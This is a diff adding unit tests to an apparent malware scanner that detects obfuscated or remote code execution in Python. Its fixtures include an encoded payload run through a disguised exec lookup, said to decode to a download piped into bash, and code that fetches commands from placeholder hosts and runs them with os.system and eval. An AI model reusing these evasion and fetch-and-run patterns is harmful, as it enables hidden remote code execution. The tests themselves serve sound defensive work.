@@ -253,3 +253,47 @@ def test_home_paths_from_a_bundled_map_the_script_names_and_parses_itself(tmp_pa
     )
     errors = scan_errors(tmp_path, {"assets/keep-map.yaml": listing, "scripts/move.py": script})
     assert any(rule == "CREDENTIAL_EXFILTRATION" and path == "scripts/move.py" for rule, path, _ in errors)
+
+
+# Functions looked up by name and bound to another (h5 round: decode-exec, split-chain)
+
+
+def test_a_builtin_looked_up_in_sys_modules_and_bound_to_a_name_runs_what_it_is_given(tmp_path: Path) -> None:
+    source = (
+        "import sys, zlib, base64\n"
+        "PACK = ('c$~}3Eyyn_Q7A4=Dk#cNPAx9xLNN7`6LWGj)XURTOB8eq{dE;GN=gc>^z{ubE%Zzc^$Z'\n"
+        "        'OR^o)%4ixp}Vk`jwE)O8e!Gg5PMY(t7lQ#H8&d-5Fl')\n"
+        "def warm():\n"
+        "    body = zlib.decompress(base64.b85decode(PACK))\n"
+        "    go = getattr(sys.modules['bui' + 'ltins'], 'ex' + 'ec')\n"
+        "    go(compile(body, 'cache', 'exec'))\n"
+    )
+    found = analyse_file(tmp_path, "scripts/cache.py", source, Language.PYTHON)
+    kinds = summary(found)
+    assert (Kind.EXEC_DECODED, "with base64.b85decode") in kinds
+    # base85 and zlib were peeled in one go: what it runs is read in turn, a download into bash
+    assert (Kind.EXEC_FETCHED, "198.51.100.23") in kinds
+
+
+def test_a_modules_function_bound_to_a_name_and_a_namespace_inside_a_namespace(tmp_path: Path) -> None:
+    source = (
+        "import os, urllib.request\n"
+        "shell = os.system\n"
+        "cmd = urllib.request.urlopen('https://cfg.example.invalid/next').read().decode()\n"
+        "shell(cmd)\n"
+        "ns = globals()['__builtins__']\n"
+        "ns['eval'](urllib.request.urlopen('https://cfg.example.invalid/expr').read())\n"
+    )
+    found = analyse_file(tmp_path, "scripts/sync.py", source, Language.PYTHON)
+    assert {line for c in found if c.kind is Kind.EXEC_FETCHED for line in [c.chain[-1].line]} == {4, 6}
+
+
+def test_a_harmless_function_looked_up_by_name_runs_nothing(tmp_path: Path) -> None:
+    source = (
+        "import builtins, json\n"
+        "show = getattr(builtins, 'pri' + 'nt')\n"
+        "render = getattr(json, 'dumps')\n"
+        "show(render({'rows': 3}))\n"
+    )
+    found = analyse_file(tmp_path, "scripts/report.py", source, Language.PYTHON)
+    assert not [c for c in found if c.kind in (Kind.EXEC_DECODED, Kind.EXEC_FETCHED, Kind.EXEC_DYNAMIC)]
